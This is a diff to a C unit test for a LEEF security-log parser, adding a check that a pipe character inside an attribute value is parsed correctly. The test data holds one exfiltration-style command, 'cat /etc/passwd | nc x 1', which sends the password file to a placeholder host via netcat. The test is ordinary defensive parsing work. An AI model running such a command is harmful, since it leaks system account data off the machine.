@@ -160,6 +160,8 @@ static void test_no_delimiter_field(void **state)
 {
 	static const char msg[] = "LEEF:2.0|Trend Micro|Deep Security Agent|20.0.0.877|4000000|"
 				   "cat=Anti-Malware\tname=Eicar_test_file\tsev=6\tsrc=10.0.0.5";
+	static const char piped[] = "LEEF:2.0|Trend Micro|Deep Security Agent|20.0.0.877|4000000|"
+				     "cat=Anti-Malware\tcmd=cat /etc/passwd | nc x 1\tsrc=10.0.0.5";
 	struct gg_leef *leef = NULL;
 	struct gg_error err = { 0 };
 
@@ -170,6 +172,17 @@ static void test_no_delimiter_field(void **state)
 	assert_string_equal(leef->delimiter, "\t");
 	assert_int_equal(leef->attrs->n, 4);
 	assert_string_equal(gg_kv_find(leef->attrs, "cat")->value, "Anti-Malware");
+	assert_string_equal(gg_kv_find(leef->attrs, "src")->value, "10.0.0.5");
+	gg_leef_free(leef);
+	/* A '|' in an attribute value: the text after the event id is still attributes, not a
+	 * delimiter field ended at that '|'. */
+	leef = NULL;
+	assert_int_equal(gg_leef_parse(piped, sizeof(piped) - 1, NULL, &leef, &err), 0);
+	assert_int_equal(leef->version, 2);
+	assert_string_equal(leef->delimiter, "\t");
+	assert_int_equal(leef->attrs->n, 3);
+	assert_string_equal(gg_kv_find(leef->attrs, "cat")->value, "Anti-Malware");
+	assert_string_equal(gg_kv_find(leef->attrs, "cmd")->value, "cat /etc/passwd | nc x 1");
 	assert_string_equal(gg_kv_find(leef->attrs, "src")->value, "10.0.0.5");
 	gg_leef_free(leef);
 }
